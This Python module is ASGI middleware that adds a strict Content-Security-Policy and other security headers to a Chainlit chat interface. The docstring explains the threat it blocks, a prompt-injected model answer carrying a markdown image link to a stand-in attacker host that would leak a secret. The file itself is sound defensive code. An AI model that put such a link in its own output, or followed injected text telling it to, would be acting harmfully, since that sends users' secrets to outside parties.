"""Security headers on every UI response: a Content-Security-Policy that keeps pages from loading or sending
anything to other sites.

Text a user or their code influences is rendered as text (see :mod:`chainlit_app.chat`), but the model's own
answers are markdown, and a prompt-injected answer could hold ``![x](https://evil.example/?secret)``. With
``img-src 'self' data: blob:`` and ``connect-src 'self'`` the browser refuses such requests, so nothing can
leak through images or fetches. Chainlit's page needs inline scripts and styles (its configuration is
injected inline) and loads its fonts from Google Fonts and KaTeX's stylesheet from jsDelivr; those are allowed
as styles and fonts only.

Example:
    >>> "img-src 'self' data: blob:" in CONTENT_SECURITY_POLICY
    True
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, MutableMapping
from typing import Any

CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self' 'unsafe-inline'",
        "style-src 'self' 'unsafe-inline' https://fonts.googleapis.com https://cdn.jsdelivr.net",
        "font-src 'self' data: https://fonts.gstatic.com https://cdn.jsdelivr.net",
        "img-src 'self' data: blob:",
        "media-src 'self' blob:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
    ]
)
HEADERS: list[tuple[bytes, bytes]] = [
    (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"same-origin"),
    (b"x-frame-options", b"DENY"),
]

Scope = MutableMapping[str, Any]
Message = MutableMapping[str, Any]
ASGIApp = Callable[[Scope, Callable[[], Awaitable[Message]], Callable[[Message], Awaitable[None]]], Awaitable[None]]


class SecurityHeaders:
    """ASGI middleware adding :data:`HEADERS` to every HTTP response (the inspector's included)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(
        self, scope: Scope, receive: Callable[[], Awaitable[Message]], send: Callable[[Message], Awaitable[None]]
    ) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                present = {name.lower() for name, _ in message.get("headers", [])}
                message["headers"] = [*message.get("headers", []), *(h for h in HEADERS if h[0] not in present)]
            await send(message)

        await self.app(scope, receive, send_with_headers)
